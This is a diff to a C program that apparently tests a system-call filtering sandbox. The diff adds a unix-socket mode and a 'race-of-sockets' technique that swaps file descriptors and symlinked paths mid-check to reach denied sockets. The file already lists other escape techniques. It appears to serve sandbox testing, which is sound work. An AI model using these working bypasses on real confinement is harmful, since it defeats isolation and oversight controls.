@@ -1,5 +1,5 @@
 /* Ways around a check of system calls: escape TECHNIQUE tcp HOST PORT ALLOWED_PORT, or
- * escape TECHNIQUE read FILE ALLOWED_FILE. Prints what it got. Each works where nothing guards it;
+ * escape TECHNIQUE read FILE ALLOWED_FILE, or escape TECHNIQUE unix SOCKET ALLOWED_SOCKET. Prints what it got. Each works where nothing guards it;
  * exit code 77: the kernel at hand does not have what the technique needs. */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -31,6 +31,7 @@
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
+#include <sys/un.h>
 #include <sys/user.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -38,7 +39,7 @@
 
 #define ABSENT 77
 static const char REQUEST[] = "GET / HTTP/1.0\r\n\r\n";
-static const char *host, *file, *allowed_file, *self;
+static const char *host, *file, *allowed_file, *local, *allowed_local, *self;
 static int port, allowed_port;
 
 static struct sockaddr_in address_of(int p) {
@@ -81,7 +82,22 @@ static long bare(long n, long a, long b, long c, long d, long e, long f) {
     return result;
 }
 
+static int connect_local(const char *path) {
+    struct sockaddr_un a = {.sun_family = AF_UNIX};
+    int s = socket(AF_UNIX, SOCK_STREAM, 0);
+    snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
+    if (connect(s, (void *)&a, sizeof a)) {
+        close(s);
+        return -1;
+    }
+    return s;
+}
+
 static int connect_plain(void) {
+    if (local) {
+        int s = connect_local(local);
+        return s < 0 ? failed("connect") : talk(s);
+    }
     struct sockaddr_in a = address_of(port);
     int s = socket(AF_INET, SOCK_STREAM, 0);
     if (connect(s, (void *)&a, sizeof a)) return failed("connect");
@@ -883,6 +899,73 @@ static void *resolve_chosen(void) {
 int chosen(void) __attribute__((ifunc("resolve_chosen")));
 static int early_resolver(void) { return chosen(); }
 
+/* A number stands for sockets of two kinds, in turns: the denied address is one that datagrams may be
+ * sent to, and what is connected in the end is a stream. */
+static int numbered = 60, datagram, stream;
+
+static void *swap_sockets(void *unused) {
+    (void)unused;
+    while (!stop) {
+        dup2(datagram, numbered);
+        dup2(stream, numbered);
+    }
+    return NULL;
+}
+
+/* A path stands for a socket in the folder of what is allowed, and for a link out of it. */
+static char swapped[4200];
+
+static void *swap_paths(void *unused) {
+    char own[4200], link_to[4200], next[4200];
+    (void)unused;
+    snprintf(own, sizeof own, "%s", allowed_local);
+    snprintf(link_to, sizeof link_to, "%s", local);
+    snprintf(next, sizeof next, "%s-next", swapped);
+    while (!stop) {
+        if (link(own, next) == 0) rename(next, swapped);
+        if (symlink(link_to, next) == 0) rename(next, swapped);
+        unlink(next);
+    }
+    return NULL;
+}
+
+static int race_of_sockets(void) {
+    pthread_t thread;
+    time_t end = time(NULL) + 5;
+    if (file) return ABSENT;
+    if (local) {
+        struct sockaddr_un peer;
+        socklen_t length = sizeof peer;
+        snprintf(swapped, sizeof swapped, "%s-swapped", allowed_local);
+        pthread_create(&thread, NULL, swap_paths, NULL);
+        while (time(NULL) < end) {
+            int s = connect_local(swapped);
+            memset(&peer, 0, length = sizeof peer);
+            if (s >= 0 && !getpeername(s, (void *)&peer, &length) && !strcmp(peer.sun_path, local)) {
+                stop = 1;
+                return talk(s);
+            }
+            if (s >= 0) close(s);
+        }
+    } else {
+        struct sockaddr_in a = address_of(port), peer;
+        socklen_t length = sizeof peer;
+        datagram = socket(AF_INET, SOCK_DGRAM, 0);
+        stream = socket(AF_INET, SOCK_STREAM, 0);
+        pthread_create(&thread, NULL, swap_sockets, NULL);
+        while (time(NULL) < end) {
+            connect(numbered, (void *)&a, sizeof a);
+            if (!getpeername(stream, (void *)&peer, &length)) {
+                stop = 1;
+                return talk(stream);
+            }
+        }
+    }
+    stop = 1;
+    fprintf(stderr, "never in 5 s\n");
+    return 1;
+}
+
 /* Has the kernel forget what was written over code, so that it comes from its file again. */
 static int over_code(void *(*undo)(void *, size_t)) {
     static unsigned long ranges[64][2];
@@ -966,6 +1049,7 @@ static const struct {
     {"early-resolver", early_resolver},
     {"forgotten-code", forgotten_code},
     {"left-behind-code", left_behind_code},
+    {"race-of-sockets", race_of_sockets},
 };
 
 int main(int argc, char **argv) {
@@ -976,6 +1060,9 @@ int main(int argc, char **argv) {
     if (!strcmp(argv[2], "read")) {
         file = argv[3];
         allowed_file = argv[4];
+    } else if (!strcmp(argv[2], "unix")) {
+        local = argv[3];
+        allowed_local = argv[4];
     } else if (argc > 5) {
         host = argv[3];
         port = atoi(argv[4]);
